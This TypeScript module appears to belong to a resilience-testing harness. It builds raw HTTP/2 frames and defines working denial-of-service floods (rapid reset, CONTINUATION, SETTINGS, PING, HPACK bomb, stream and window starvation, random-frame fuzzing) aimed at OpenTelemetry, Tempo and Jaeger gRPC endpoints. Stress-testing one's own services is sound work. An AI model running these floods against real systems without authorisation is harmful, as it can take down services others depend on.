/** HTTP/2 frame by frame: rapid reset, floods of CONTINUATION, SETTINGS and PING, header bombs, windows that stay shut. */

import type { Socket } from 'node:net';
import { type Attack, pause, repeat, type Strike } from '../attack.ts';
import { connect } from '../send.ts';

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
export const FRAME = {
  data: 0,
  headers: 1,
  reset: 3,
  settings: 4,
  ping: 6,
  goaway: 7,
  window: 8,
  continuation: 9,
} as const;
const END_STREAM = 1;
const END_HEADERS = 4;
const PATHS = [
  '/opentelemetry.proto.collector.logs.v1.LogsService/Export',
  '/opentelemetry.proto.collector.trace.v1.TraceService/Export',
  '/tempopb.StreamingQuerier/Search',
  '/jaeger.api_v2.CollectorService/PostSpans',
  '/no.Such/Method',
];

export function frame(
  type: number,
  flags: number,
  stream: number,
  payload: Uint8Array = Buffer.alloc(0),
): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** A header as HPACK's literal without indexing, with a new name; below 128 bytes of name, 16 KiB of value. */
export function literal(name: string, value: string | Buffer, indexed = false): Buffer {
  const bytes = Buffer.from(value as string);
  const length =
    bytes.length < 127
      ? Buffer.from([bytes.length])
      : Buffer.from([127, ((bytes.length - 127) & 0x7f) | 0x80, (bytes.length - 127) >> 7]);
  return Buffer.concat([Buffer.from([indexed ? 0x40 : 0, name.length]), Buffer.from(name), length, bytes]);
}

export function callHeaders(path: string, more: readonly Buffer[] = []): Buffer {
  return Buffer.concat([
    literal(':method', 'POST'),
    literal(':scheme', 'http'),
    literal(':path', path),
    literal(':authority', 'x'),
    literal('content-type', 'application/grpc'),
    literal('te', 'trailers'),
    ...more,
  ]);
}

async function session(
  strike: Strike,
  settings: Uint8Array = Buffer.alloc(0),
  reads = true,
): Promise<Socket> {
  const { grpc, http, jaegerGrpc } = strike.target;
  const socket = await connect(strike, strike.random.pick([grpc, http, jaegerGrpc]), reads);
  if (!socket.destroyed) socket.write(Buffer.concat([PREFACE, frame(FRAME.settings, 0, 0, settings)]));
  return socket;
}

/** Writes what `make` gives, with regard to what the socket takes, until it closes or `count` were written. */
async function flood(
  strike: Strike,
  socket: Socket,
  count: number,
  make: (i: number) => Buffer,
): Promise<void> {
  let i = 0;
  for (; i < count && !socket.destroyed && !strike.signal.aborted; i++) {
    if (!socket.write(make(i))) {
      await Promise.race([new Promise((resolve) => socket.once('drain', resolve)), pause(strike, 1000)]);
    }
  }
  strike.tell(socket.destroyed ? 'cut off' : `${count} frames`);
}

type Flood = (strike: Strike) => Promise<void>;

const rapidReset: Flood = async (strike) => {
  const socket = await session(strike);
  const path = strike.random.pick(PATHS);
  await flood(strike, socket, 20_000, (i) =>
    Buffer.concat([
      frame(FRAME.headers, END_HEADERS, 2 * i + 1, callHeaders(path)),
      frame(FRAME.reset, 0, 2 * i + 1, Buffer.from([0, 0, 0, 8])),
    ]),
  );
  socket.destroy();
};

const continuations: Flood = async (strike) => {
  const socket = await session(strike);
  if (!socket.destroyed) socket.write(frame(FRAME.headers, 0, 1, callHeaders(PATHS[0]!)));
  const more = literal('x-more', 'a'.repeat(8000));
  await flood(strike, socket, 20_000, () => frame(FRAME.continuation, 0, 1, more));
  socket.destroy();
};

const settings: Flood = async (strike) => {
  const socket = await session(strike, undefined, strike.random.next() < 0.5);
  await flood(strike, socket, 30_000, () => frame(FRAME.settings, 0, 0, Buffer.from([0, 3, 0, 0, 0, 100])));
  socket.destroy();
};

const pings: Flood = async (strike) => {
  const socket = await session(strike, undefined, strike.random.next() < 0.5);
  await flood(strike, socket, 30_000, () => frame(FRAME.ping, 0, 0, Buffer.alloc(8)));
  socket.destroy();
};

/** A value in the table, named thousands of times in each request. */
const hpackBomb: Flood = async (strike) => {
  const socket = await session(strike);
  const big = literal('x-big', 'b'.repeat(3500), true);
  const refs = Buffer.alloc(8000, 0x80 | 62);
  await flood(strike, socket, 500, (i) =>
    frame(FRAME.headers, END_HEADERS, 2 * i + 1, callHeaders(PATHS[0]!, i === 0 ? [big, refs] : [refs])),
  );
  socket.destroy();
};

/** Streams that begin a message and never end it. */
const manyStreams: Flood = async (strike) => {
  const socket = await session(strike);
  const part = Buffer.concat([Buffer.from([0, 3, 0, 0, 0]), Buffer.alloc(1000)]);
  await flood(strike, socket, 5000, (i) =>
    Buffer.concat([
      frame(FRAME.headers, END_HEADERS, 2 * i + 1, callHeaders(PATHS[i % 2]!)),
      frame(FRAME.data, 0, 2 * i + 1, part),
    ]),
  );
  await pause(strike, 3000);
  socket.destroy();
};

/** A window of nothing: answers cannot go. */
const starvation: Flood = async (strike) => {
  const socket = await session(strike, Buffer.from([0, 4, 0, 0, 0, 0]), false);
  await flood(strike, socket, 2000, (i) =>
    Buffer.concat([
      frame(FRAME.headers, END_HEADERS, 2 * i + 1, callHeaders('/tempopb.StreamingQuerier/Search')),
      frame(FRAME.data, END_STREAM, 2 * i + 1, Buffer.alloc(5)),
    ]),
  );
  await pause(strike, 5000);
  socket.destroy();
};

const nonsense: Flood = async (strike) => {
  const { random } = strike;
  const socket = await session(strike);
  await flood(strike, socket, 200, () =>
    frame(
      random.int(0, 15),
      random.int(0, 255),
      random.pick([0, 1, 2, 3, 0x7fffffff]),
      random.bytes(random.int(0, 200)),
    ),
  );
  socket.destroy();
};

const FLOODS = { rapidReset, continuations, settings, pings, hpackBomb, manyStreams, starvation, nonsense };

export const http2Attacks: readonly Attack[] = Object.entries(FLOODS).map(([name, once]) => ({
  name: `http2-${name.replace(/[A-Z]/g, (letter) => `-${letter.toLowerCase()}`)}`,
  strike: (strike) => repeat(strike, 3, () => once(strike)),
}));
